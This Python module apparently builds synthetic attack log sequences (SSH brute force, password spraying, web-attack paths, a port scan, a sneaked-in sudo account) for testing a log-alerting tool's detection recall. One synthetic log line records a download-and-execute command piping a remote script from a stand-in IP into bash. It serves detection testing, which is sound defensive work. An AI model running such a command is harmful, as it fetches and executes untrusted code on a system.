"""Attack campaigns for the demo: coordinated line sequences that each should raise one alert.

The scenario generator (``generator.py``) draws independent lines: right for training a
per-line classifier, but an attack an analyst is alerted to is a sequence from one source
(forty failed logins, a spray across users, a scan). Each campaign here is such a sequence
with the rule it must raise; the demo mixes them into the generator's background traffic and
reports, per campaign, whether its alert came (recall). Development and demo code only: the
serving path never imports it.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from classifiers.logs.generator import GeneratedLine, generate
from classifiers.logs.payloads import attack_path

#: Background traffic of the demo: mostly benign, as production logs are.
DEMO_BENIGN_SHARE = 0.9
#: Campaigns start on a multiple of this (the error-burst rule's default tumbling window).
ALIGN_S = 300


@dataclass(frozen=True)
class Campaign:
    """One attack or incident and the rule that must alert on it."""

    name: str
    rule: str
    lines: tuple[str, ...]


def _syslog(t: datetime, host: str, program: str, message: str, pid: int = 4242) -> str:
    """RFC 5424, so the year is in the line (RFC 3164 lines get the current year)."""
    return f"<38>1 {t:%Y-%m-%dT%H:%M:%SZ} {host} {program} {pid} - - {message}"


def _access(t: datetime, ip: str, path: str) -> str:
    return (
        f'{ip} - - [{t:%d/%b/%Y:%H:%M:%S} +0000] "GET {path} HTTP/1.1" 404 0 "-" '
        '"Mozilla/5.0 (compatible; sqlmap/1.7)"'
    )


def _failure(t: datetime, ip: str, user: str, port: int) -> str:
    return _syslog(
        t, "bastion", "sshd", f"Failed password for invalid user {user} from {ip} port {port} ssh2"
    )


def campaigns(start: datetime, seed: int = 7) -> list[Campaign]:
    """The demo's campaigns, one every 30 minutes from ``start`` (aligned), each seeded."""
    rng = random.Random(seed)
    base = datetime.fromtimestamp(start.timestamp() // ALIGN_S * ALIGN_S, UTC)

    def at(slot: int, seconds: float) -> datetime:
        return base + timedelta(minutes=30 * slot, seconds=seconds)

    users = [
        "root", "admin", "ubuntu", "oracle", "postgres", "git", "test", "deploy", "pi",
        "guest", "support", "ftp", "mysql", "jenkins", "backup", "nagios", "www", "user",
    ]  # fmt: skip
    return [
        Campaign(
            "ssh_brute_force", "logwarden-brute-force-source",
            tuple(_failure(at(0, 5 * i), "45.33.20.11", users[i % 3], 40000 + i)
                  for i in range(40)),
        ),
        Campaign(
            "password_spraying", "logwarden-password-spraying",
            tuple(_failure(at(1, 7 * i), "91.240.118.7", users[i % 18], 41000 + i)
                  for i in range(36)),
        ),
        Campaign(
            "brute_force_then_success", "logwarden-brute-force-success",
            (*(_failure(at(2, 4 * i), "185.220.101.4", "root", 42000 + i) for i in range(12)),
             _syslog(at(2, 60), "bastion", "sshd",
                     "Accepted password for root from 185.220.101.4 port 42100 ssh2")),
        ),
        Campaign(
            "web_attack_campaign", "logwarden-web-attack-burst",
            tuple(_access(at(3, 3 * i), "203.0.113.45", attack_path(rng)) for i in range(15)),
        ),
        Campaign(
            "download_and_execute", "logwarden-malicious-execution",
            (_syslog(at(4, 0), "web-01", "sudo",
                     "www-data : TTY=unknown ; PWD=/tmp ; USER=root ; "
                     "COMMAND=/bin/sh -c curl -s http://198.51.100.66/x.sh | bash"),),
        ),
        Campaign(
            "privileged_account", "logwarden-account-created-privileged",
            (_syslog(at(5, 0), "db-1", "useradd",
                     "new user: name=svc-sync, UID=1007, GID=1007, home=/home/svc-sync, "
                     "shell=/bin/bash"),
             _syslog(at(5, 40), "db-1", "usermod", "add 'svc-sync' to group 'sudo'")),
        ),
        Campaign(
            "error_burst", "logwarden-error-burst",
            tuple(_syslog(at(6, 2 * i), "app-7", "systemd",
                          "payments.service: Main process exited, code=killed, status=9/KILL",
                          pid=1) for i in range(80)),
        ),
        Campaign(
            "port_scan", "logwarden-port-scan",
            tuple(_syslog(at(7, i), "fw-1", "kernel",
                          f"[UFW BLOCK] IN=eth0 OUT= MAC=00 SRC=45.155.205.9 DST=10.0.0.5 LEN=44 "
                          f"PROTO=TCP SPT=51000 DPT={port} WINDOW=1024", pid=0)
                  for i, port in enumerate(rng.sample(range(1, 10000), 30))),
        ),
    ]  # fmt: skip


@dataclass(frozen=True)
class DemoLine:
    """One line of the demo feed and where it came from (a campaign name or the background
    generator's scenario)."""

    text: str
    source: str


def demo_lines(count: int, seed: int) -> list[DemoLine]:
    """``count`` background lines from the generator with every campaign mixed in (each kept
    in order, placed at a random position)."""
    rng = random.Random(seed)
    background: list[GeneratedLine] = list(
        generate(count, seed=seed, benign_share=DEMO_BENIGN_SHARE)
    )
    feed = [DemoLine(line.text, f"background:{line.scenario}") for line in background]
    for campaign in campaigns(datetime(2024, 4, 1, 8, tzinfo=UTC), seed):
        at = rng.randint(0, len(feed))
        feed[at:at] = [DemoLine(text, campaign.name) for text in campaign.lines]
    return feed
